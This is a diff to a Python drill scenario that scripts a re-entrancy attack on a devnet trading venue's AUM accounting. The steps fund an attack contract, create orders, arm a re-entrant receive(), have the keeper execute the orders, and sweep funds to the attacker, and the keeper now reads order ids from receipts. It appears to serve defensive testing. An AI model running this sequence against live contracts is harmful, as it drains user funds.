@@ -6,10 +6,14 @@ from __future__ import annotations
 
 from collections.abc import Iterator
 
+from web3.logs import DISCARD
+
 from breakglass.devnet.venue import USD, Venue, role_key
 from breakglass.drills.scenarios.base import ETHER, AttackContext, Scenario, Step
 
 ETH = 0
+INCREASE = "increase order (short)"
+DECREASE = "decrease order (the trigger)"
 
 
 class ReentrantAum(Scenario):
@@ -54,7 +58,7 @@ class ReentrantAum(Scenario):
         attack = ctx.attack("ReentrantAumAttack")
         yield ctx.call("fund attack contract", v.usd, "transfer", attack.address, self.funding_usd)
         yield ctx.call(
-            "increase order (short)",
+            INCREASE,
             attack,
             "createOrder",
             True,
@@ -63,10 +67,8 @@ class ReentrantAum(Scenario):
             value=self.fee,
             wait_seconds=2,
         )
-        yield self._keeper_executes(ctx, "keeper executes the increase order")
-        yield ctx.call(
-            "decrease order (the trigger)", attack, "createOrder", False, 0, 0, value=self.fee, wait_seconds=2
-        )
+        yield from self._keeper_executes(ctx, INCREASE, "keeper executes the increase order")
+        yield ctx.call(DECREASE, attack, "createOrder", False, 0, 0, value=self.fee, wait_seconds=2)
         yield ctx.call(
             "arm the re-entrant receive()",
             attack,
@@ -78,17 +80,25 @@ class ReentrantAum(Scenario):
             wait_seconds=2,
         )
 
-    def _keeper_executes(self, ctx: AttackContext, label: str) -> Step:
-        """The venue's honest keeper executes the newest order (it cannot tell it is a trap)."""
+    def _keeper_executes(self, ctx: AttackContext, created_by: str, label: str) -> Iterator[Step]:
+        """The venue's honest keeper executes the order the step ``created_by`` created (it cannot
+        tell it is a trap). The id is the one the market gave, read from that step's mined receipt:
+        an order whose creation reverted (the defense blocked the attack contract first) does not
+        exist, and the keeper has nothing to execute."""
         m = ctx.venue.market(ETH)
-        order_id = m.functions.orderCount().call() - 1
-        return ctx.call(
-            label, m, "executeOrder", order_id, signer=role_key("keeper"), gas=15_000_000, wait_seconds=12
-        )
+        receipt = ctx.receipt(created_by)
+        if receipt is None or receipt["status"] != 1:
+            return
+        for event in m.events.OrderCreated().process_receipt(receipt, errors=DISCARD):
+            if event["address"] == m.address:
+                yield ctx.call(
+                    label, m, "executeOrder", event["args"]["orderId"], signer=role_key("keeper"),
+                    gas=15_000_000, wait_seconds=12,
+                )  # fmt: skip
 
     def strike(self, ctx: AttackContext) -> Iterator[Step]:
         attack = ctx.attack("ReentrantAumAttack")
-        yield self._keeper_executes(ctx, "keeper executes the decrease order (re-entrancy)")
+        yield from self._keeper_executes(ctx, DECREASE, "keeper executes the decrease order (re-entrancy)")
         yield ctx.call("sweep to attacker", attack, "sweep", wait_seconds=2)
 
     def target(self, venue: Venue) -> int:
